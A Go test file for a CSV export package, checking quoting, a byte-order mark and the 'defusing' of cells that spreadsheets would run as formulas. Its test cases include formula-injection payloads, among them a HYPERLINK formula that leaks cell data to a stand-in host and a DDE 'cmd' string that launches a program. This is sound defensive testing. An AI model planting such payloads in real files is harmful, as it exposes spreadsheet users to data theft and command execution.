package outlets

import (
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"clientele/schemas"
)

func TestCSV(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "new", "csv")
	if err := CSV(t.Context(), reader(), byName, []schemas.Table{people, empty}, dir); err != nil {
		t.Fatal(err)
	}
	header := "postcode,phone,visits,spent,score,objected,born,seen_at\r\n"
	want := byteOrderMark + header +
		"0123,+32475123456,3,1.2345,0.1,true,1979-12-31,2024-02-29T23:59:58.5Z\r\n" +
		",,,,,,,\r\n" +
		"'=1+1,'+1+1,-7,-5,-2.5,false,1899-05-04,1900-02-28T23:00:00Z\r\n" +
		`"a,""b""",'@x,1000000000000000,100000000000.0001,0,true,1900-03-01,1900-03-01T00:00:00Z` + "\r\n"
	if diff := cmp.Diff(want, string(readFile(t, filepath.Join(dir, "people.csv")))); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff(byteOrderMark+header, string(readFile(t, filepath.Join(dir, "empty.csv")))); diff != "" {
		t.Error(diff)
	}
}

func TestDefused(t *testing.T) {
	contact, other := schemas.Column{Personal: schemas.Contact}, schemas.Column{Personal: schemas.Identity}
	for _, c := range []struct {
		column     schemas.Column
		text, want string
	}{
		{other, "", ""},
		{other, "Peeters", "Peeters"},
		{other, "0475 12 34 56", "0475 12 34 56"},
		{other, `=HYPERLINK("http://x/?"&A1)`, `'=HYPERLINK("http://x/?"&A1)`},
		{other, "+32475123456", "'+32475123456"},
		{other, "-1", "'-1"},
		{other, "@SUM(A1)", "'@SUM(A1)"},
		{other, "\t=1", "'\t=1"},
		{other, "\r=1", "'\r=1"},
		{other, "\n=1", "'\n=1"},
		{other, "＝1", "'＝1"},
		{other, "a=1", "a=1"},
		{other, "'=1", "'=1"},
		{contact, "+32475123456", "+32475123456"},
		{contact, "+", "'+"},
		{contact, "+32 475", "'+32 475"},
		{contact, "+1+cmd|'/c calc'!A1", "'+1+cmd|'/c calc'!A1"},
		{contact, "+32475\n", "'+32475\n"},
		{contact, "-32475", "'-32475"},
		{contact, "=32475", "'=32475"},
	} {
		if got := defused(c.text, c.column); got != c.want {
			t.Errorf("defused(%q) of %q = %q, want %q", c.text, c.column.Personal, got, c.want)
		}
	}
}

// Whatever a text holds, one field of CSV comes out, and no cell that a
// spreadsheet would run.
func TestAnyTextIsOneHarmlessField(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "csv")
	rapid.Check(t, func(rt *rapid.T) {
		text := rapid.OneOf(rapid.String(), rapid.StringMatching(`[=+@\-\t ",\n\r'a1]*`)).Draw(rt, "text")
		r := reader()
		r.rows["notes"] = [][]any{{"before"}, {text}, {"after"}}
		if err := CSV(t.Context(), r, byName, []schemas.Table{notes}, dir); err != nil {
			rt.Fatal(err)
		}
		written := string(readFile(t, filepath.Join(dir, "notes.csv")))
		got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(written, byteOrderMark))).ReadAll()
		if err != nil {
			rt.Fatal(err)
		}
		if len(got) != 4 || got[1][0] != "before" || got[3][0] != "after" {
			rt.Fatalf("rows %q", got)
		}
		if !strings.Contains(written, strings.ReplaceAll(text, `"`, `""`)) {
			rt.Fatalf("%q is not in %q", text, written)
		}
		// The reader makes a line feed of CRLF.
		want := strings.ReplaceAll(defused(text, notes.Columns[0]), "\r\n", "\n")
		if got[2][0] != want || looksLikeFormula(got[2][0]) {
			rt.Fatalf("%q became %q", text, got[2][0])
		}
	})
}
